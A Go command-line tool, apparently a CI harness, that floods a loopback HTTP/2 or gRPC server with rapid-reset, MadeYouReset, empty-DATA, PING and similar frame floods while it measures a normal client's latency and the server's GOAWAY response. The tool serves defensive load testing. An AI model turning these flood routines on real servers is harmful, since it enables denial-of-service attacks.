// Command h2flood floods one HTTP/2 connection, cleartext (h2c) or over TLS
// (-tls, ALPN h2), with cheap frames for a bounded time, while a normal
// client calls SayHello on another connection, and reports how many frames
// it sent, whether and when the server cut it (GOAWAY ENHANCE_YOUR_CALM),
// and the latency of the normal client's calls. It is the load of
// .ci/flood, which measures what the server spends on it. The kinds:
//
//	empty-data     DATA frames with no data on an open stream
//	settings       SETTINGS
//	ping           PING
//	window-update  WINDOW_UPDATE of the connection by 1
//	rapid-reset    HEADERS then RST_STREAM(CANCEL) of a new stream
//	ping-ack       unsolicited PING ACKs
//	padded-data    DATA frames of padding only (pad length 0) on an open stream
//	1-byte-data    DATA frames of one byte each, within one large gRPC message
//	wu-per-data    9 WINDOW_UPDATEs per 1-byte DATA frame
//	wu0            HEADERS then WINDOW_UPDATE(0) on the new stream, which the
//	               server resets (PROTOCOL_ERROR): "MadeYouReset"
//	none           no flood: the normal client's latency alone
//
// Frames are written in batches of 16 units and counted as written: the
// count when the GOAWAY arrives is at most what the server read, plus what
// the sockets held. Loopback only: -addr must be a 127.0.0.0/8 address.
package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"runtime"
	"slices"
	"sync/atomic"
	"time"
)

// HTTP/2 frame types and flags (RFC 9113 §6).
const (
	typeData, typeHeaders, typeRSTStream, typeSettings = 0x0, 0x1, 0x3, 0x4
	typePing, typeGoAway, typeWindowUpdate             = 0x6, 0x7, 0x8
	flagAck, flagEndHeaders, flagPadded                = 0x1, 0x4, 0x8
	codeEnhanceYourCalm                                = 0xb
)

// batch is how many units are written between two flushes.
const batch = 16

// frame appends one HTTP/2 frame to b.
func frame(b *bytes.Buffer, typ, flags byte, stream uint32, payload []byte) {
	var h [9]byte
	h[0], h[1], h[2] = byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload))
	h[3], h[4] = typ, flags
	binary.BigEndian.PutUint32(h[5:], stream)
	b.Write(h[:])
	b.Write(payload)
}

// lit is an HPACK literal header field without indexing.
func lit(n, v string) []byte {
	return append(append([]byte{0, byte(len(n))}, n...), append([]byte{byte(len(v))}, v...)...)
}

// flood writes the units of one kind of flood.
type flood struct {
	kind    string
	block   []byte // the header block of a gRPC SayHello
	stream  uint32 // the stream the DATA floods send on
	left    int    // bytes of the open gRPC message still to send (1-byte-data, wu-per-data)
	next    uint32 // the next new stream id
	perUnit int    // frames a unit has
}

// messageBytes is the length a 1-byte DATA flood declares for its gRPC
// message: under the server's 1 MiB cap, so that the handler reads on.
const messageBytes = 960 << 10

// start writes what the flood needs first: an open stream for the DATA kinds.
func (f *flood) start(b *bytes.Buffer) {
	f.next = 1
	switch f.kind {
	case "empty-data", "padded-data":
		f.open(b)
	case "1-byte-data", "wu-per-data":
		f.openMessage(b)
	}
}

// open opens a new stream, without END_STREAM.
func (f *flood) open(b *bytes.Buffer) {
	f.stream = f.next
	f.next += 2
	frame(b, typeHeaders, flagEndHeaders, f.stream, f.block)
}

// openMessage opens a stream and starts a gRPC message of messageBytes.
func (f *flood) openMessage(b *bytes.Buffer) {
	f.open(b)
	p := []byte{0, 0, 0, 0, 0}
	binary.BigEndian.PutUint32(p[1:], messageBytes)
	frame(b, typeData, 0, f.stream, p)
	f.left = messageBytes
}

// unit appends one unit of the flood to b and returns its frames.
func (f *flood) unit(b *bytes.Buffer) int {
	switch f.kind {
	case "empty-data":
		frame(b, typeData, 0, f.stream, nil)
	case "settings":
		frame(b, typeSettings, 0, 0, nil)
	case "ping":
		frame(b, typePing, 0, 0, make([]byte, 8))
	case "ping-ack":
		frame(b, typePing, flagAck, 0, make([]byte, 8))
	case "window-update":
		frame(b, typeWindowUpdate, 0, 0, []byte{0, 0, 0, 1})
	case "rapid-reset":
		f.open(b)
		frame(b, typeRSTStream, 0, f.stream, []byte{0, 0, 0, 8})
		return 2
	case "padded-data":
		frame(b, typeData, flagPadded, f.stream, []byte{0})
	case "1-byte-data", "wu-per-data":
		if f.left == 0 {
			f.openMessage(b)
		}
		frame(b, typeData, 0, f.stream, []byte{'a'})
		f.left--
		if f.kind == "1-byte-data" {
			return 1
		}
		for range 9 {
			frame(b, typeWindowUpdate, 0, 0, []byte{0, 0, 0, 1})
		}
		return 10
	case "wu0":
		f.open(b)
		frame(b, typeWindowUpdate, 0, f.stream, []byte{0, 0, 0, 0})
		return 2
	}
	return 1
}

var kinds = []string{"empty-data", "settings", "ping", "window-update", "rapid-reset",
	"ping-ack", "padded-data", "1-byte-data", "wu-per-data", "wu0", "none"}

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "h2flood:", err)
		os.Exit(1)
	}
}

func run() error {
	// The flood and the normal client each get a thread of their own, also
	// when the command is pinned to one CPU: the kernel then shares it
	// between them, rather than Go's scheduler letting the flood's loop hold
	// the client's calls for its 10 ms slices.
	runtime.GOMAXPROCS(max(2, runtime.GOMAXPROCS(0)))
	addr := flag.String("addr", "127.0.0.1:50090", "the server's loopback host:port")
	kind := flag.String("kind", "empty-data", "what to flood with: "+fmt.Sprint(kinds))
	useTLS := flag.Bool("tls", false, "HTTP/2 over TLS (ALPN h2; the server's certificate is not checked) instead of h2c")
	d := flag.Duration("d", 5*time.Second, "how long to flood and call (the run is bounded by it)")
	every := flag.Duration("probe-every", 50*time.Millisecond, "pause between two SayHello calls of the normal client")
	flag.Parse()
	if host, _, err := net.SplitHostPort(*addr); err != nil || !net.ParseIP(host).IsLoopback() {
		return fmt.Errorf("-addr %q: give a loopback host:port", *addr)
	}
	if !slices.Contains(kinds, *kind) {
		return fmt.Errorf("-kind %q: one of %v", *kind, kinds)
	}
	dial := func() (net.Conn, error) { return net.Dial("tcp", *addr) }
	scheme := "http"
	if *useTLS {
		scheme = "https"
		dial = func() (net.Conn, error) {
			return tls.Dial("tcp", *addr, &tls.Config{NextProtos: []string{"h2"}, InsecureSkipVerify: true})
		}
	}
	end := time.Now().Add(*d)
	probed := make(chan []time.Duration, 1)
	go func() { probed <- probe(scheme+"://"+*addr, *useTLS, end, *every) }()

	res := result{kind: *kind}
	if *kind != "none" {
		c, err := dial()
		if err != nil {
			return err
		}
		res = attack(c, *kind, *addr, end)
		c.Close()
	}
	lat := <-probed
	fmt.Printf("%s: %s; SayHello %s\n", *kind, res, summary(lat))
	return nil
}

// result is what one flood did.
type result struct {
	kind   string
	frames int64         // frames written
	cutAt  int64         // frames written when the GOAWAY ENHANCE_YOUR_CALM arrived; -1: never
	cutIn  time.Duration // and when
	err    error         // why writing stopped, if not the end of the run
}

func (r result) String() string {
	if r.kind == "none" {
		return "no flood"
	}
	s := fmt.Sprintf("%d frames sent, ", r.frames)
	if r.cutAt < 0 {
		s += "never cut"
	} else {
		s += fmt.Sprintf("cut after %d frames (%v)", r.cutAt, r.cutIn.Round(time.Millisecond))
	}
	if r.err != nil {
		s += fmt.Sprintf(" (write: %v)", r.err)
	}
	return s
}

// attack floods c with kind until end, or until the server cuts it.
func attack(c net.Conn, kind, addr string, end time.Time) result {
	start := time.Now()
	var sent atomic.Int64
	cut := make(chan int64, 1) // frames sent when GOAWAY ENHANCE_YOUR_CALM came
	go func() {
		r := bufio.NewReader(c)
		for {
			var h [9]byte
			if _, err := io.ReadFull(r, h[:]); err != nil {
				return
			}
			n := int(h[0])<<16 | int(h[1])<<8 | int(h[2])
			p := make([]byte, n)
			if _, err := io.ReadFull(r, p); err != nil {
				return
			}
			if h[3] == typeGoAway && n >= 8 && binary.BigEndian.Uint32(p[4:]) == codeEnhanceYourCalm {
				cut <- sent.Load()
				return
			}
		}
	}()
	block := append([]byte{0x83, 0x86}, lit(":path", "/rpc_package.HelloWorldService/SayHello")...)
	block = append(block, lit(":authority", addr)...)
	block = append(block, lit("content-type", "application/grpc")...)
	f := &flood{kind: kind, block: block}
	var b bytes.Buffer
	b.WriteString("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
	frame(&b, typeSettings, 0, 0, nil)
	f.start(&b)
	res := result{kind: kind, cutAt: -1}
	for time.Now().Before(end) {
		n := 0
		for range batch {
			n += f.unit(&b)
		}
		_ = c.SetWriteDeadline(end)
		if _, err := c.Write(b.Bytes()); err != nil {
			if !errors.Is(err, os.ErrDeadlineExceeded) {
				res.err = err
			}
			break
		}
		b.Reset()
		sent.Add(int64(n))
		select {
		case res.cutAt = <-cut:
			res.cutIn = time.Since(start)
		default:
			continue
		}
		break
	}
	if res.cutAt < 0 { // writing failed: the GOAWAY may be on its way
		select {
		case res.cutAt = <-cut:
			res.cutIn = time.Since(start)
		case <-time.After(time.Second):
		}
	}
	res.frames = sent.Load()
	return res
}

// probe calls SayHello (gRPC) at base on its own connection, one call after
// another with a pause of every between them, until end, and returns each
// call's latency; a call that fails counts as -1.
func probe(base string, useTLS bool, end time.Time, every time.Duration) []time.Duration {
	transport := &http.Transport{Protocols: new(http.Protocols)}
	if useTLS {
		transport.Protocols.SetHTTP2(true)
		transport.TLSClientConfig = &tls.Config{InsecureSkipVerify: true}
	} else {
		transport.Protocols.SetUnencryptedHTTP2(true)
	}
	defer transport.CloseIdleConnections()
	client := &http.Client{Transport: transport}
	// A gRPC message: no compression, 4 bytes of length, HelloRequest{name: "eric"}.
	body := []byte("\x00\x00\x00\x00\x06\x0a\x04eric")
	var lat []time.Duration
	for time.Now().Before(end) {
		ctx, cancel := context.WithDeadline(context.Background(), end.Add(5*time.Second))
		req, _ := http.NewRequestWithContext(ctx, http.MethodPost, base+"/rpc_package.HelloWorldService/SayHello", bytes.NewReader(body))
		req.Header.Set("Content-Type", "application/grpc")
		req.Header.Set("TE", "trailers")
		t0 := time.Now()
		resp, err := client.Do(req)
		if err == nil {
			_, err = io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			if err == nil && resp.Trailer.Get("Grpc-Status") != "0" {
				err = fmt.Errorf("grpc-status %q", resp.Trailer.Get("Grpc-Status"))
			}
		}
		cancel()
		if err != nil {
			lat = append(lat, -1)
		} else {
			lat = append(lat, time.Since(t0))
		}
		time.Sleep(every)
	}
	return lat
}

// summary gives the calls' count, failures, median, p99 and slowest.
func summary(lat []time.Duration) string {
	var ok []time.Duration
	for _, l := range lat {
		if l >= 0 {
			ok = append(ok, l)
		}
	}
	if len(ok) == 0 {
		return fmt.Sprintf("%d calls, all failed", len(lat))
	}
	slices.Sort(ok)
	q := func(p float64) time.Duration { return ok[min(len(ok)-1, int(p*float64(len(ok))))] }
	ms := func(d time.Duration) string { return fmt.Sprintf("%.1f ms", float64(d)/1e6) }
	return fmt.Sprintf("%d calls, %d failed, p50 %s, p99 %s, max %s", len(lat), len(lat)-len(ok), ms(q(0.5)), ms(q(0.99)), ms(ok[len(ok)-1]))
}
